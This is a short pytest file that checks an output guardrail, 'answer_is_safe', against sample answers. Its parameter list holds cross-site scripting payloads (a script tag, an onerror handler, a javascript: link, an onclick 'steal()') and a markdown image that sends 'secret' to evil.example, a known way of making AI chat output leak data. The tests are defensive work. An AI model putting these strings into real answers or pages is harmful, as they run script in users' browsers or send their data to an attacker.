from __future__ import annotations

import pytest

from rails.output import answer_is_safe


@pytest.mark.parametrize(
    "answer",
    [
        "<script>alert(1)</script>",
        'Click <img src=x onerror="alert(1)">',
        "[here](javascript:alert(1))",
        "![logo](https://evil.example/?q=secret)",
        '<a href="#" onclick="steal()">x</a>',
    ],
)
def test_active_content_fails(answer: str) -> None:
    assert not answer_is_safe(answer)


def test_plain_answers_pass() -> None:
    assert answer_is_safe("Call 0800 000 0000 or see [our FAQ](https://help.example/cards).")
